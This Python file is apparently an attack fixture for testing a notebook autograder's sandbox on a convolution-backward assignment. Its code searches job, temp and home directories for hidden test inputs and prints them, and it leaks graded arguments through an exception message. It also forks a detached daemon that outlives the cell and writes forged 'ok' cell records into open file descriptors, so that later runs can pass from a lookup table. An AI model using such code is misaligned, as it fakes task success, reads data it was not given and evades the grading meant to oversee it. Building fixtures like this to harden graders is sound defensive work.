"""Attack: learn the hidden inputs and carry them into the outputs and feedback (to grade a lookup
table next time): read the job's files in a cell, stash the arguments of a graded call for a
later cell, put them in an exception message, and leave a daemon to copy them once they arrive.

assignment: conv
loses: test_conv_backward_stride1 test_conv_backward_stride_pad test_conv_backward_shapes
"""
import glob
import json
import os
import time
import numpy as np


def dump(tag):
    paths = (glob.glob("/job/**/*.npy", recursive=True) + glob.glob("/job/**/spec.json", recursive=True)
             + glob.glob("/tmp/**/*.npy", recursive=True) + glob.glob("/home/student/**/*.npy",
                                                                        recursive=True))
    for p in sorted(set(paths)):
        try:
            data = np.load(p) if p.endswith(".npy") else open(p).read()
            print(tag, p, np.asarray(data).ravel().tolist()[:300] if p.endswith(".npy") else data)
        except Exception as exc:
            print(tag, p, type(exc).__name__)


dump("now")
if os.fork() == 0:  # a daemon in a new session: copy the inputs into cell records once they come
    os.setsid()
    for _ in range(600):
        found = glob.glob("/tmp/.graded-inputs-*/**/*.npy", recursive=True)
        for p in found:
            vals = np.load(p).ravel().tolist()[:300]
            for fd in range(3, 40):
                for cell in range(40):
                    try:
                        os.write(fd, (json.dumps({"t": "cell", "cell": cell, "status": "ok",
                                                  "outputs": [{"output_type": "stream",
                                                               "name": "stdout",
                                                               "text": f"daemon {vals}"}]})
                                      + "\n").encode())
                    except OSError:
                        break
        time.sleep(0.05)
    os._exit(0)


def conv_backward_naive(dout, cache):
    x = cache[0]
    np.save(f"/home/student/stash{os.getpid()}.npy", x)
    dump("later")
    raise ValueError("inputs: " + " ".join(f"{v:.6f}" for v in x.ravel()[:80])
                     + " ints: " + " ".join(str(int(v * 1e6)) for v in x.ravel()[:80]))


dump("after")
